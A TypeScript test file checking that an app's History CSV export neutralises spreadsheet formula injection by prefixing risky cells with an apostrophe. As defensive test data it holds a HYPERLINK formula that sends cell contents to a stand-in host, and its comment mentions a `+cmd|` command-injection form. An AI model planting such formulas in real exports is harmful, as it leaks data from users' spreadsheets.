/**
 * Issue 37 item 10: the History export must not carry spreadsheet formulas. A manual titled
 * `=HYPERLINK(…)` (or a query typed as `+cmd|…`) opened in Excel or LibreOffice would run; every text
 * cell that starts with = + - @, a tab or a carriage return is written with a leading apostrophe.
 */
import { describe, expect, it } from 'vitest';
import { historyCsv, type HistoryEntry } from '../../../renderer/src/local/history.js';

/** The cells of the one data row (no cell here holds a comma inside quotes except where stated). */
function dataRow(entry: HistoryEntry): string {
  return historyCsv([entry]).split('\r\n')[1]!;
}

describe('History CSV export (formula injection)', () => {
  it('neutralises a manual title that is a formula', () => {
    const row = dataRow({ at: '2026-01-02T03:04:05.000Z', action: 'open', manual: '=HYPERLINK("http://x.test/?d="&A1,"Click")', file: 'a.pdf', page: 3 });
    expect(row).toBe('2026-01-02T03:04:05.000Z,open,,"\'=HYPERLINK(""http://x.test/?d=""&A1,""Click"")",,a.pdf,3,');
  });

  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'])('prefixes a text cell starting with %j', (query) => {
    const csv = historyCsv([{ at: '2026-01-02T03:04:05.000Z', action: 'search', query }]);
    const cells = csv.split('\r\n').slice(1).join('\r\n');
    // The query cell, unquoted or quoted, starts with the apostrophe.
    expect(cells).toMatch(/^2026-01-02T03:04:05\.000Z,search,"?'/);
  });

  it('leaves ordinary text, codes and page numbers as they are', () => {
    expect(dataRow({ at: '2026-01-02T03:04:05.000Z', action: 'open', query: 'E-101 spindle', manual: 'Acme VMC', file: 'a.pdf', revision: 'C', page: 12, section: 'Spindle' })).toBe(
      '2026-01-02T03:04:05.000Z,open,E-101 spindle,Acme VMC,C,a.pdf,12,Spindle',
    );
  });
});
